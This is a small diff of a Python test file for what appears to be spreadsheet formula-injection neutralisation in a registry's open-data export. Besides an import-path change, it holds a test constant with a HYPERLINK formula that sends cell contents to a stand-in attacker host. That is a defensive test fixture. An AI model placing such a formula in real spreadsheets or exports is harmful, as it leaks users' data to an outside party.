@@ -9,7 +9,7 @@ import pytest
 import webtest
 from sqlalchemy.orm import Session
 
-from registry.opendata.export import neutralised
+from registry.opendata.formats import neutralised
 from tests.common.db.core import ContractFactory, SupplierFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
